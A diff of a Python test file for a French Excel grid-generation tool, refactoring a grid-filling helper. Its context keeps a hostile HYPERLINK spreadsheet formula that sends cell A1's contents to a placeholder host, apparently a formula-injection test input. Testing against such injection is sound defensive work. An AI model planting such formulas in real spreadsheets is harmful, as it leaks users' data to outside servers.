@@ -17,13 +17,12 @@ from pathlib import Path
 from click.testing import CliRunner
 from gridtools import INFO, candidat, protection, read, synthetic
 from openpyxl import load_workbook
-from sessiondata import CANDIDATS, make_session, with_changes
+from sessiondata import CANDIDATS, fill_grids, make_session, with_changes
 
 from certidocs.cli import main
 from certidocs.grid import layout as L
 from certidocs.grid.writer import GridWriter, grid_filename
 from certidocs.session import open_session
-from certidocs.simulation import fill_grid, simulated_evaluations
 from certidocs.workspace import find_workspace
 
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
@@ -49,12 +48,7 @@ def _hostile_session(root: Path, name: str = "s1") -> Path:
 
 
 def _fill_all(folder: Path, rate: float = 0.9) -> None:
-    opened = open_session(folder, find_workspace(folder))
-    ref = opened.referentiel
-    for c in opened.lecture.session.candidats:
-        blocs = c.blocs(ref)
-        fill_grid(folder / "grilles" / grid_filename(c), ref, blocs,
-                  simulated_evaluations(ref, blocs, {"tous": rate}, c.numero))
+    fill_grids(folder, rate)
 
 
 def _raw_formulas(path: Path) -> list[str]:
